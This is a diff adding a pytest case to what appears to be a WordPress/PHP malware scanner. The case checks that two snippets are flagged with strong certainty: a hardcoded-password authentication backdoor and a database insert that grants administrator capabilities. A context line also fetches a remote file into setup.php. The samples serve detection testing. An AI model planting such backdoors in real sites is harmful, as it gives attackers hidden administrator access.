@@ -126,6 +126,20 @@ def test_what_no_honest_file_does_is_an_alarm_without_a_second_judge(shell: str)
     assert len(content) > 20_000
 
 
+@pytest.mark.parametrize(
+    "shell",
+    [
+        "add_filter('authen¦ticate', function ($u, $l, $p) { if (sha1($p) === '32f0c205b413db6cd26390e6f97a541e') "
+        "{ return new WP_¦User(1); } return $u; });",
+        "$wpdb->ins¦ert($m, ['meta_key' => 'wp_capabilities', 'meta_value' => 'a:1:{s:13:\"administrator\";b:1;}']);",
+    ],
+)
+def test_what_only_text_shows_of_who_lets_himself_in_is_an_alarm(shell: str) -> None:
+    content = b"<?php\n" + shell.replace("¦", "").encode()
+    verdict = confidence.weigh_judgement(classifier.judge_content(content, "a.php", engine.load_yara_rules(None)))
+    assert verdict is not None and verdict.certainty == "strong"
+
+
 def test_what_installers_do_stays_a_sign_without_a_second_judge() -> None:
     code = "$from = 'https://192.0.2.7/a'; $to = 'setup.php'; co¦py($from, $to);".replace("¦", "")
     content = b"<?php\n" + code.encode() + b"\n" + HONEST_REST
